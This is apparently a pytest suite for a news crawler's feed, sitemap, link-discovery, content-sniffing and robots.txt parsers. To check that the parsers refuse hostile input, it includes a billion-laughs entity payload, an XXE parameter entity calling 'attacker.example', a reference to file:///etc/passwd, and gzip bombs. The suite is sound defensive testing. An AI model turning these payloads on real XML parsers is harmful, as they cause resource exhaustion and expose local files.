"""Feeds, sitemaps, section pages, autodiscovery, sniffing and robots.txt."""

import gzip
import re
import signal
import zlib
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from worker.discover import (
    MAX_FEED_ENTRIES,
    MAX_SITEMAP_ENTRIES,
    DiscoverError,
    FeedItem,
    SitemapEntry,
    discover_feeds,
    parse_feed,
    parse_sitemap,
    section_links,
    sniff,
)
from worker.robots import parse_robots

FEEDS = Path(__file__).resolve().parents[1] / "fixtures" / "feeds"
UA = "newswatch/0.1 (+https://github.com/newswatch/newswatch)"


def _fixture(name: str) -> bytes:
    return (FEEDS / name).read_bytes()


@contextmanager
def _within(seconds: int):
    """Fail the test instead of hanging when the code under test runs away."""

    def _expired(signum, frame):
        raise TimeoutError(f"took longer than {seconds}s")

    previous = signal.signal(signal.SIGALRM, _expired)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


# Feeds


def test_rss2_items_are_absolute_normalised_and_unique():
    items = parse_feed(_fixture("rss2.xml"), "https://news.example.com/world/rss.xml")
    assert [item.url for item in items] == [
        "https://news.example.com/world/2024/05/14/floods-close-crossing",
        "https://news.example.com/world/2024/05/13/minister-resigns",
        "https://news.example.com/world/2024/05/12/guid-only",
    ]


def test_rss2_titles_and_dates():
    first, second, third = parse_feed(_fixture("rss2.xml"), "https://news.example.com/rss")
    assert first == FeedItem(
        url="https://news.example.com/world/2024/05/14/floods-close-crossing",
        title="Floods close the river crossing",
        published=datetime(2024, 5, 14, 7, 15, tzinfo=UTC),
        updated=None,
    )
    assert second.title == "Minister resigns & party splits"
    assert second.published == datetime(2024, 5, 13, 18, 0, tzinfo=UTC)
    assert third.published is None and third.updated is None


def test_rss2_without_dates_in_latin1_with_relative_links():
    items = parse_feed(_fixture("rss2-no-dates.xml"), "http://lokal.example.de/feed/")
    assert items == [
        FeedItem(
            "http://lokal.example.de/feed/artikel/strassenbahn.html", "Straßenbahn fährt wieder"
        ),
        FeedItem("http://lokal.example.de/feed/artikel/wasserpreise.html", "Wasserpreise steigen"),
    ]


def test_atom_entries_use_xml_base_and_both_dates():
    items = parse_feed(_fixture("atom.xml"), "https://elsewhere.example/atom.xml")
    assert items == [
        FeedItem(
            url="https://atom.example.org/blog/2024/budget-vote-delayed",
            title="Budget vote delayed",
            published=datetime(2024, 5, 14, 6, 0, tzinfo=UTC),
            updated=datetime(2024, 5, 14, 7, 45, tzinfo=UTC),
        ),
        FeedItem(url="https://atom.example.org/blog/2024/undated?page=2", title="Undated entry"),
    ]


def test_rdf_feed():
    items = parse_feed(_fixture("rdf.xml"), "https://rdf.example.net/rss")
    assert [(item.url, item.title) for item in items] == [
        ("https://rdf.example.net/a/1", "First RDF story")
    ]
    assert items[0].updated == datetime(2024, 5, 10, 12, 0, tzinfo=UTC)


def test_malformed_feed_gives_what_could_be_read():
    items = parse_feed(_fixture("malformed.xml"), "https://broken.example.com/rss")
    assert [item.url for item in items][:2] == [
        "https://broken.example.com/story-1",
        "https://broken.example.com/story-2",
    ]
    assert items[0].published == datetime(2024, 5, 15, 7, 0, tzinfo=UTC)


def test_escaped_markup_in_a_title_stays_text():
    feed = (
        b'<rss version="2.0"><channel><item><title>The &amp;lt;blink&amp;gt; tag at AT&amp;amp;T'
        b"</title><link>https://e.example/a</link></item></channel></rss>"
    )
    [item] = parse_feed(feed, "https://e.example/rss")
    assert item.title == "The <blink> tag at AT&T"


def test_empty_feed_has_no_items():
    empty = b'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title></channel></rss>'
    assert parse_feed(empty, "https://e.example/rss") == []


@pytest.mark.parametrize(
    "data",
    [b"", b"plain words, no markup", b"<html><body><a href='/a'>a</a></body></html>", b"\x00\xff"],
    ids=["empty", "text", "html", "binary"],
)
def test_input_that_is_no_feed_raises(data):
    with pytest.raises(DiscoverError, match=r"not a feed: https://j\.example/"):
        parse_feed(data, "https://j.example/")


def test_bytes_are_never_taken_for_a_file_name(tmp_path):
    feed = tmp_path / "feed.xml"
    feed.write_bytes(_fixture("rss2.xml"))
    with pytest.raises(DiscoverError):
        parse_feed(str(feed).encode(), "https://e.example/")


def test_billion_laughs_is_refused_fast():
    with _within(5), pytest.raises(DiscoverError, match="entity"):
        parse_feed(_fixture("billion-laughs.xml"), "https://laughs.example.com/rss")


def test_external_entity_is_refused_and_never_read():
    with pytest.raises(DiscoverError) as caught:
        parse_feed(_fixture("xxe.xml"), "https://xxe.example.com/rss")
    assert "root:" not in str(caught.value)


LAUGHS = b"""<!DOCTYPE rss [
 <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
]>
<rss version="2.0"><channel><title>&d;</title>
<item><title>&d;</title><link>https://e.example/a</link></item></channel></rss>"""


PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]><rss/>"""
DRESSED = {
    "plain": LAUGHS,
    "utf-16": ("<?xml version='1.0' encoding='utf-16'?>\n" + LAUGHS.decode()).encode("utf-16"),
    "behind-a-comment": b"<?xml version='1.0'?><!-- <rss> -->" + LAUGHS,
    "utf-7-disguise": b"<?xml version='1.0' encoding='utf-7'?>"
    + LAUGHS.replace(b"<!ENTITY", b"<+ACE-ENTITY"),
    "in-a-malformed-feed": LAUGHS.replace(b"</channel></rss>", b"<item><title>unclosed"),
    "parameter-entity": PARAMETER_ENTITY,
}


@pytest.mark.parametrize("data", DRESSED.values(), ids=DRESSED.keys())
def test_entity_declarations_are_refused_however_dressed(data):
    with _within(5), pytest.raises(DiscoverError, match="entity"):
        parse_feed(data, "https://e.example/rss")


def test_entity_text_inside_cdata_of_a_well_formed_feed_is_fine():
    feed = (
        b'<?xml version="1.0"?><rss version="2.0"><channel><title>Sec</title><item>'
        b"<title>XXE explained</title><link>https://sec.example/xxe</link>"
        b'<description><![CDATA[Write <!ENTITY x SYSTEM "file:///etc/passwd"> to...]]>'
        b"</description></item></channel></rss>"
    )
    assert [item.url for item in parse_feed(feed, "https://sec.example/rss")] == [
        "https://sec.example/xxe"
    ]


def test_external_dtd_without_entities_is_accepted():
    feed = (
        b'<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC'
        b' "-//Netscape Communications//DTD RSS 0.91//EN"'
        b' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"><channel>'
        b"<title>Old</title><item><title>Old story</title><link>https://old.example/s</link></item>"
        b"</channel></rss>"
    )
    assert [item.url for item in parse_feed(feed, "https://old.example/rss")] == [
        "https://old.example/s"
    ]


# Sitemaps

BASE = "https://news.example.com/sitemap.xml"


def test_urlset_entries():
    sitemap = parse_sitemap(_fixture("sitemap.xml"), BASE)
    assert sitemap.urls == [
        SitemapEntry(
            "https://news.example.com/politics/2024/05/14/budget-vote",
            lastmod=datetime(2024, 5, 14, 9, 45, tzinfo=timezone(timedelta(hours=2))),
        ),
        SitemapEntry(
            "https://news.example.com/politics/2024/05/13/coalition-talks",
            lastmod=datetime(2024, 5, 13, tzinfo=UTC),
        ),
        SitemapEntry("https://news.example.com/politics/2024/05/12/no-lastmod"),
    ]
    assert sitemap.sitemaps == []
    assert sitemap.error is None


def test_gzip_sitemap_reads_like_the_plain_one():
    assert parse_sitemap(_fixture("sitemap.xml.gz"), BASE) == parse_sitemap(
        _fixture("sitemap.xml"), BASE
    )


def test_multi_member_gzip_is_read_whole():
    text = _fixture("sitemap.xml")
    half = len(text) // 2
    data = gzip.compress(text[:half]) + gzip.compress(text[half:])
    assert parse_sitemap(data, BASE) == parse_sitemap(text, BASE)


def test_sitemap_index_lists_child_sitemaps():
    sitemap = parse_sitemap(_fixture("sitemap-index.xml"), BASE)
    assert sitemap.sitemaps == [
        "https://news.example.com/sitemaps/news.xml",
        "https://news.example.com/sitemaps/2024-05.xml.gz",
    ]
    assert sitemap.urls == []


def test_google_news_sitemap_gives_title_and_publication_date():
    sitemap = parse_sitemap(_fixture("news-sitemap.xml"), BASE)
    assert sitemap.urls == [
        SitemapEntry(
            "https://news.example.com/business/2024/05/14/tram-budget",
            title="Tram budget overrun confirmed",
            published=datetime(2024, 5, 14, 7, 30, tzinfo=timezone(timedelta(hours=1))),
        ),
        SitemapEntry(
            "https://news.example.com/business/2024/05/13/port-strike",
            lastmod=datetime(2024, 5, 13, 22, 10, tzinfo=UTC),
            title="Port strike ends",
            published=datetime(2024, 5, 13, tzinfo=UTC),
        ),
    ]


def test_sitemap_without_namespace():
    data = b"<urlset><url><loc>https://e.example/a</loc><lastmod>nonsense</lastmod></url></urlset>"
    assert parse_sitemap(data, BASE).urls == [SitemapEntry("https://e.example/a")]


def test_text_sitemap():
    data = (
        b"https://e.example/a\n\nhttps://e.example/b?utm_source=x\nnot a url\nhttps://e.example/a\n"
    )
    sitemap = parse_sitemap(data, BASE)
    assert [entry.url for entry in sitemap.urls] == ["https://e.example/a", "https://e.example/b"]


def test_truncated_sitemap_keeps_entries_and_says_why():
    data = _fixture("sitemap.xml")
    cut = data[: data.index(b"<url>", data.index(b"no-lastmod"))]
    sitemap = parse_sitemap(cut, BASE)
    assert len(sitemap.urls) == 3
    assert sitemap.error.startswith("no element found")  # the XML parser's word for the cut


def _packed(*pieces: tuple[bytes, int]) -> bytes:
    """Gzip of each piece repeated so many times, without building the whole text."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    parts = []
    for piece, times in pieces:
        block = piece * max(1, 1_000_000 // len(piece))
        whole, rest = divmod(times * len(piece), len(block))
        parts += [packer.compress(block) for _ in range(whole)]
        parts.append(packer.compress(block[:rest]))
    return b"".join(parts) + packer.flush()


@pytest.fixture(scope="module")
def gzip_bomb() -> bytes:
    """A valid sitemap padded to 60 MB of spaces, about 60 KB compressed."""
    return _packed(
        (b"<urlset><url><loc>https://e.example/a</loc></url>", 1),
        (b" ", 60_000_000),
        (b"</urlset>", 1),
    )


def test_gzip_bomb_is_refused_at_the_default_cap(gzip_bomb):
    assert len(gzip_bomb) < 200_000
    with _within(10), pytest.raises(DiscoverError, match="inflates past 50000000 bytes"):
        parse_sitemap(gzip_bomb, BASE)


def test_gzip_cap_is_adjustable():
    data = gzip.compress(_fixture("sitemap.xml"))
    with pytest.raises(DiscoverError, match="inflates past 100 bytes"):
        parse_sitemap(data, BASE, max_bytes=100)


_GOOD_GZIP = gzip.compress(b"<urlset><url><loc>https://e.example/a</loc></url></urlset>")
_CORRUPT_GZIP = _GOOD_GZIP[:10] + b"\xff" * 8 + _GOOD_GZIP[18:]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (_fixture("rss2.xml"), r"not a sitemap.*<rss>"),
        (b"<urlset><url><loc>", "not a readable sitemap"),
        (_CORRUPT_GZIP, "corrupt gzip"),
        (_fixture("billion-laughs.xml").replace(b"rss", b"urlset"), "entity"),
        (_fixture("xxe.xml").replace(b"rss", b"urlset"), "entity"),
    ],
    ids=["a-feed", "broken-before-any-entry", "corrupt-gzip", "billion-laughs", "xxe"],
)
def test_unusable_sitemaps_raise(data, message):
    with _within(5), pytest.raises(DiscoverError, match=message):
        parse_sitemap(data, BASE)


# Hostile sizes: each is read within its caps in about a second; the code before the caps took
# from many seconds to a minute, and up to a gigabyte of memory, on the same input.

SITEMAP_NS = b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'


def test_a_sitemap_streams_as_it_inflates_and_stops_at_the_entry_cap():
    """1.2 million entries (52 MB inflated, 150 KB of gzip): reading stops after the first
    50,000, before the rest is ever inflated, so the size cap is never reached."""
    entry = b"<url><loc>https://e.example/a</loc></url>"
    data = _packed((SITEMAP_NS, 1), (entry, 1_200_000), (b"</urlset>", 1))
    assert len(data) < 200_000
    with _within(20):
        sitemap = parse_sitemap(data, BASE)
    assert sitemap.urls == [SitemapEntry("https://e.example/a")]
    assert sitemap.error == f"read the first {MAX_SITEMAP_ENTRIES} entries only"


def test_a_sitemap_of_empty_elements_is_given_up_at_the_element_cap():
    """The 45 kB gzip of 11.5 million empty elements that once took a gigabyte and a minute."""
    data = _packed((SITEMAP_NS, 1), (b"<x/>", 11_500_000), (b"</urlset>", 1))
    assert len(data) < 60_000
    with _within(20), pytest.raises(DiscoverError, match=r"no usable entry.*1000000 elements"):
        parse_sitemap(data, BASE)


def test_entries_beyond_the_cap_are_not_read():
    data = SITEMAP_NS + b"".join(
        b"<url><loc>https://e.example/%d</loc></url>" % number for number in range(10)
    )
    sitemap = parse_sitemap(data + b"</urlset>", BASE, max_entries=3)
    assert [entry.url for entry in sitemap.urls] == [f"https://e.example/{n}" for n in range(3)]
    assert sitemap.error == "read the first 3 entries only"
    assert parse_sitemap(data + b"</urlset>", BASE, max_entries=10).error is None


def test_a_sitemap_nested_too_deep_is_refused():
    data = SITEMAP_NS + b"<url>" * 100_000
    with _within(5), pytest.raises(DiscoverError, match="nested 32 deep"):
        parse_sitemap(data, BASE)


def test_a_text_sitemap_of_endless_blank_lines_stops_at_the_line_cap():
    data = _packed((b"https://e.example/a\n", 1), (b"\n", 45_000_000), (b"https://e.example/b", 1))
    with _within(20):
        sitemap = parse_sitemap(data, BASE)
    assert [entry.url for entry in sitemap.urls] == ["https://e.example/a"]
    assert "entries (1000000 lines)" in sitemap.error


def test_a_text_sitemap_stops_at_the_entry_cap_and_skips_overlong_lines():
    lines = [
        b"https://e.example/" + b"x" * 20_000,
        *(b"https://e.example/%d" % n for n in range(9)),
    ]
    sitemap = parse_sitemap(b"\n".join(lines), BASE, max_entries=4)
    assert [entry.url for entry in sitemap.urls] == [f"https://e.example/{n}" for n in range(4)]
    assert sitemap.error.startswith("read the first 4 entries ")


def test_the_entity_check_holds_while_streaming():
    laughs = gzip.compress(_fixture("billion-laughs.xml").replace(b"rss", b"urlset"))
    with _within(5), pytest.raises(DiscoverError, match="entity"):
        parse_sitemap(laughs, BASE)


def _items(count: int, description: str = "&lt;p&gt;Some &lt;b&gt;bold&lt;/b&gt; text.&lt;/p&gt;"):
    return "".join(
        f"<item><title>Story {n}</title><link>https://e.example/s/{n}</link>"
        f"<pubDate>Wed, 01 May 2024 10:00:00 GMT</pubDate>"
        f"<description>{description}</description></item>"
        for n in range(count)
    )


def _rss_of(items: str, head: str = "<title>t</title>") -> bytes:
    return f'<rss version="2.0"><channel>{head}{items}</channel></rss>'.encode()


def test_a_huge_feed_gives_its_first_entries_only():
    """40,000 items, 8 MB: feedparser once spent half a minute on it."""
    feed = _rss_of(_items(40_000))
    assert len(feed) > 5_000_000
    with _within(20):
        items = parse_feed(feed, "https://e.example/rss")
    assert [item.url for item in items] == [
        f"https://e.example/s/{n}" for n in range(MAX_FEED_ENTRIES)
    ]
    assert items[-1].published == datetime(2024, 5, 1, 10, tzinfo=UTC)


def test_a_huge_malformed_feed_is_cut_at_its_entries_too():
    """A bare `&` breaks the feed for expat: it is cut at its end tags as text instead."""
    feed = _rss_of(_items(40_000), head="<title>Smith & Sons</title>")[: -len("</channel></rss>")]
    with _within(20):
        items = parse_feed(feed, "https://e.example/rss")
    assert len(items) == MAX_FEED_ENTRIES
    assert items[0].url == "https://e.example/s/0"


def test_a_feed_is_cut_before_the_entry_that_crosses_the_byte_cap():
    feed = _rss_of(_items(2) + _items(1, description="x" * 3_000_000).replace("/s/0", "/big"))
    with _within(20):
        items = parse_feed(feed, "https://e.example/rss")
    assert [item.url for item in items] == ["https://e.example/s/0", "https://e.example/s/1"]


def test_a_feed_whose_first_entry_crosses_the_byte_cap_is_refused():
    feed = _rss_of(_items(3, description="x" * 1_000))
    with pytest.raises(DiscoverError, match="no feed entry ends within 500 bytes"):
        parse_feed(feed, "https://e.example/rss", max_bytes=500)


@pytest.mark.parametrize(
    ("feed", "prefix"),
    [
        (
            '<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:title>t</a:title>{}</a:feed>',
            '<a:entry><a:id>x{0}</a:id><a:link href="https://e.example/{0}"/></a:entry>',
        ),
        (
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
            ' xmlns="http://purl.org/rss/1.0/"><channel rdf:about="c"><title>t</title>'
            "</channel>{}</rdf:RDF>",
            '<item rdf:about="https://e.example/{0}"><link>https://e.example/{0}</link></item>',
        ),
        (
            "<rss><channel><title>t</title>{}</channel></rss>",
            "<item><guid>https://e.example/{0}</guid></item>",
        ),
    ],
    ids=["prefixed-atom", "rdf", "rss-guid"],
)
def test_a_cut_feed_is_closed_again_whatever_its_kind(feed, prefix):
    entries = "".join(prefix.format(n) for n in range(8))
    items = parse_feed(feed.format(entries).encode(), "https://e.example/", max_entries=5)
    assert [item.url for item in items] == [f"https://e.example/{n}" for n in range(5)]


def test_listed_urls_with_a_control_character_or_space_in_the_host_are_skipped():
    sitemap = (
        SITEMAP_NS
        + (
            "<url><loc>https://ev\u009b2Jil.example/a</loc></url>"
            "<url><loc>https://e\u3000vil.example/b</loc></url>"
            "<url><loc>https://e.example/c</loc></url></urlset>"
        ).encode()
    )
    assert [entry.url for entry in parse_sitemap(sitemap, BASE).urls] == ["https://e.example/c"]
    feed = _rss_of(
        "<item><link>https://e\u2028vil.example/b</link></item>"
        "<item><link>https://e.example/c</link></item>"
    )
    assert [item.url for item in parse_feed(feed, BASE)] == ["https://e.example/c"]


# Section pages and autodiscovery


def test_section_links_match_the_pattern_on_the_same_host():
    html = _fixture("section.html").decode()
    assert section_links(html, "https://news.example.com/world/", r"/world/\d{4}/") == [
        "https://news.example.com/world/2024/05/14/floods-close-crossing",
        "https://news.example.com/world/2024/05/13/minister-resigns",
        "https://news.example.com/world/2024/05/12/quake-aftermath/",
        "https://news.example.com/world/2024/05/11/archive-story",
    ]


def test_section_links_may_leave_the_host():
    html = _fixture("section.html").decode()
    links = section_links(html, "https://news.example.com/world/", r"/2024/05/14/", same_host=False)
    assert links == [
        "https://news.example.com/world/2024/05/14/floods-close-crossing",
        "https://partner.example.org/world/2024/05/14/partner-story",
    ]


def test_section_links_follow_the_base_element():
    html = '<base href="https://e.example/news/"><a href="a/1">1</a><a href="/b/2">2</a>'
    assert section_links(html, "https://e.example/index", r"/a/") == ["https://e.example/news/a/1"]


PATTERN = r"/world/(\d"


def test_invalid_pattern_is_named():
    with pytest.raises(DiscoverError, match=re.escape(f"invalid link pattern {PATTERN!r}")):
        section_links("<a href='/x'>x</a>", "https://e.example/", PATTERN)


def test_discover_feeds_from_link_elements():
    html = _fixture("autodiscovery.html").decode()
    assert discover_feeds(html, "https://www.example.net/index.html") == [
        "https://www.example.net/news/feed.rss",
        "https://www.example.net/news/atom.xml",
        "https://www.example.net/sport/rss",
    ]


def test_discover_feeds_on_a_page_without_feeds():
    assert discover_feeds("<html><head><title>x</title></head></html>", "https://e.example/") == []


# Sniffing

SNIFFED = [
    ("rss", _fixture("rss2.xml"), "text/xml", "feed"),
    ("rss-labelled-html", _fixture("rss2.xml"), "text/html; charset=utf-8", "feed"),
    ("atom", _fixture("atom.xml"), "", "feed"),
    ("rdf", _fixture("rdf.xml"), "application/rdf+xml", "feed"),
    ("rdf-that-is-no-feed", b'<rdf:RDF xmlns:rdf="x"><foaf:Person/></rdf:RDF>', "", "unknown"),
    ("utf-16-rss", '<?xml version="1.0"?><rss/>'.encode("utf-16"), "", "feed"),
    ("comment-before-root", b"<?xml version='1.0'?>\n<!-- <html> -->\n<feed/>", "", "feed"),
    ("urlset", _fixture("sitemap.xml"), "application/xml", "sitemap"),
    ("gzip-urlset", _fixture("sitemap.xml.gz"), "application/x-gzip", "sitemap"),
    ("text-sitemap", b"https://e.example/a\nhttps://e.example/b\n", "text/plain", "sitemap"),
    ("sitemapindex", _fixture("sitemap-index.xml"), "text/xml", "sitemapindex"),
    ("html", _fixture("section.html"), "text/html", "html"),
    ("html-unlabelled", b"<html><body>x</body></html>", "", "html"),
    ("html-by-type-only", b"Hello <b>there</b>", "text/html", "html"),
    ("feed-by-type-only", b"", "application/rss+xml", "feed"),
    ("json", b'{"version": "https://jsonfeed.org/version/1.1"}', "application/json", "unknown"),
    ("robots", _fixture("robots.txt"), "text/plain", "unknown"),
    ("empty", b"", "", "unknown"),
    ("corrupt-gzip", b"\x1f\x8bnonsense", "", "unknown"),
]


@pytest.mark.parametrize(
    ("data", "content_type", "kind"), [c[1:] for c in SNIFFED], ids=[c[0] for c in SNIFFED]
)
def test_sniff(data, content_type, kind):
    assert sniff(data, content_type) == kind


# robots.txt

ROBOTS = [
    ("our-group-disallows-live", UA, "/live/blog", False),
    ("our-group-allows-the-rest", UA, "/search?q=x", True),
    ("others-disallowed-search", "OtherBot/1.0", "/search?q=x", False),
    ("others-allowed-press-releases", "OtherBot/1.0", "/private/press-releases/a", True),
    ("others-disallowed-private", "OtherBot/1.0", "/private/a", False),
    ("others-allowed-articles", "OtherBot/1.0", "/world/a", True),
    ("badbot-disallowed-all", "BadBot/2", "/world/a", False),
]


@pytest.mark.parametrize(
    ("agent", "path", "allowed"), [c[1:] for c in ROBOTS], ids=[c[0] for c in ROBOTS]
)
def test_robots_rules(agent, path, allowed):
    rules = parse_robots(_fixture("robots.txt").decode())
    assert rules.allowed(f"https://news.example.com{path}", agent) is allowed


def test_robots_crawl_delay():
    rules = parse_robots(_fixture("robots.txt").decode())
    assert rules.crawl_delay(UA) == 2.0
    assert rules.crawl_delay("OtherBot") == 5.0
    assert rules.crawl_delay("BadBot") is None


@pytest.mark.parametrize(
    "text",
    [
        "",
        "<html><body><h1>Not found</h1></body></html>",
        "\x00\x01\xff binary \ufffd junk\n:::\nDisallow\nUser-agent:\n",
        "User-agent: *\nCrawl-delay: ²\nRequest-rate: ¹/²\n",
        "Disallow: /before-any-user-agent\n",
    ],
    ids=["empty", "html-error-page", "binary", "odd-digits", "rule-without-agent"],
)
def test_robots_junk_allows_everything(text):
    rules = parse_robots(text)
    assert rules.allowed("https://e.example/any/page", UA)
    assert rules.crawl_delay(UA) is None


@pytest.mark.parametrize(
    ("text", "path", "allowed"),
    [
        ("Allow: /a\nDisallow: /a/b\n", "/a/b/c", False),
        ("Disallow: /a/b\nAllow: /a\n", "/a/x", True),
        ("Disallow: /a\nAllow: /a\n", "/a/x", True),
        ("Disallow: /a # old\nCrawl-delay: 3\nAllow: /a/public\n", "/a/public/1", True),
        ("Disallow:\nDisallow: /\n", "/x", False),
    ],
    ids=["longer-disallow-wins", "longer-allow-wins", "allow-wins-a-tie", "across-other-lines",
         "empty-disallow"],
)  # fmt: skip
def test_robots_most_specific_rule_wins(text, path, allowed):
    rules = parse_robots(f"User-agent: *\n{text}")
    assert rules.allowed(f"https://e.example{path}", UA) is allowed


def test_robots_disallow_all():
    rules = parse_robots("User-agent: *\nDisallow: /\n")
    assert not rules.allowed("https://e.example/a", UA)
